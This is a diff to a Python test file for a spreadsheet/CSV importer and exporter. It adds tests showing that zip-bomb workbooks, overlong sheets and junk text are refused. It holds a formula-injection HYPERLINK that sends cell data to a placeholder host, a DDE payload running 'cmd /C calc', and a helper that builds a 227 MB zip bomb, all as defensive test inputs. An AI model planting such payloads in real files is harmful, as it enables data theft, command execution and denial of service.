@@ -5,14 +5,21 @@ from __future__ import annotations
 
 import csv
 import io
+import random
+import zipfile
+from pathlib import Path
 
-from openpyxl import load_workbook
+import pytest
+from openpyxl import Workbook, load_workbook
 from sqlalchemy.engine import Engine
 from sqlmodel import select
 
 from storage.data.db import read_scope, session_scope
 from storage.data.models import Narasi, Realisasi
 from storage.files.export import export_bytes
+from storage.files.importer import import_file
+from storage.files.report_parser import MAX_FILE_BYTES, MAX_LINES, BadFileError, read_lines
+from tests.test_importer import _snapshot
 
 HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A1,"Klik di sini")'
 DDE = "=cmd|' /C calc'!A0"
@@ -60,3 +67,91 @@ def test_csv_fields_starting_like_formulas_are_neutralised(seeded: Engine) -> No
             assert not value.startswith(("=", "+", "@", "\t", "\r")), value
     # Amounts are still plain integers.
     assert all(r["pagu"] == "" or r["pagu"].isdigit() for r in rows)
+
+
+# --- bounded reading ----------------------------------------------------------------------
+
+
+def _counting_zip_reads(monkeypatch: pytest.MonkeyPatch) -> list[int]:
+    """Bytes inflated out of any zip member while the test runs."""
+    inflated: list[int] = []
+    real_read = zipfile.ZipExtFile.read
+
+    def read(self, n=-1):  # type: ignore[no-untyped-def]
+        data = real_read(self, n)
+        inflated.append(len(data))
+        return data
+
+    monkeypatch.setattr(zipfile.ZipExtFile, "read", read)
+    return inflated
+
+
+def _zip_bomb(path: Path, unpacked_mb: int) -> Path:
+    """A valid workbook whose sheet XML is padded to ``unpacked_mb`` MB of spaces."""
+    buf = io.BytesIO()
+    Workbook().save(buf)
+    with (
+        zipfile.ZipFile(io.BytesIO(buf.getvalue())) as src,
+        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst,
+    ):
+        for item in src.infolist():
+            data = src.read(item.filename)
+            if item.filename == "xl/worksheets/sheet1.xml":
+                head, _, tail = data.partition(b"<sheetData")
+                data = head + b" " * (unpacked_mb * 1024 * 1024) + b"<sheetData" + tail
+            dst.writestr(item, data, compress_type=zipfile.ZIP_DEFLATED, compresslevel=1)
+    return path
+
+
+def test_a_zip_bomb_xlsx_is_refused_from_its_directory(
+    seeded: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    bomb = _zip_bomb(tmp_path / "bom.xlsx", unpacked_mb=227)
+    assert bomb.stat().st_size < MAX_FILE_BYTES  # the compressed size passes the old check
+    before = _snapshot(seeded)
+    inflated = _counting_zip_reads(monkeypatch)
+    with pytest.raises(BadFileError, match=r"xl/worksheets/sheet1\.xml mengembang menjadi 227 MB"):
+        import_file(seeded, bomb)
+    assert sum(inflated) == 0  # refused before a single byte was unpacked
+    assert _snapshot(seeded) == before
+
+
+def test_a_sheet_claiming_a_million_rows_stops_at_the_row_limit(tmp_path: Path) -> None:
+    wb = Workbook()
+    ws = wb.active
+    assert ws is not None
+    for r in range(1, MAX_LINES + 50):
+        ws.cell(row=r, column=1, value="x")
+    path = tmp_path / "panjang.xlsx"
+    wb.save(path)
+    with pytest.raises(BadFileError, match=r"lebih dari 10\.000 baris"):
+        read_lines(path)
+
+
+def test_junk_text_is_refused_before_it_is_parsed(
+    seeded: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import storage.files.importer as importer
+
+    def not_reached(*_a, **_k):  # type: ignore[no-untyped-def]
+        raise AssertionError("junk reached the parser")
+
+    monkeypatch.setattr(importer, "parse_lines", not_reached)
+    before = _snapshot(seeded)
+    rng = random.Random(13)
+    many_lines = tmp_path / "baris.txt"
+    many_lines.write_bytes(
+        b"".join(rng.randbytes(60).hex().encode() + b"\n" for _ in range(160_000))
+    )
+    assert many_lines.stat().st_size > 19_000_000
+    with pytest.raises(BadFileError, match=r"lebih dari 10\.000 baris"):
+        import_file(seeded, many_lines)
+    one_line = tmp_path / "satu.txt"
+    one_line.write_bytes(rng.randbytes(9 * 1024 * 1024).hex().encode())
+    with pytest.raises(BadFileError, match="baris 1 terlalu panjang"):
+        import_file(seeded, one_line)
+    tabs = tmp_path / "tab.txt"
+    tabs.write_text("judul\n" + "\t" * 500 + "\n", encoding="utf-8")
+    with pytest.raises(BadFileError, match="baris 2 berisi 501 kolom"):
+        import_file(seeded, tabs)
+    assert _snapshot(seeded) == before
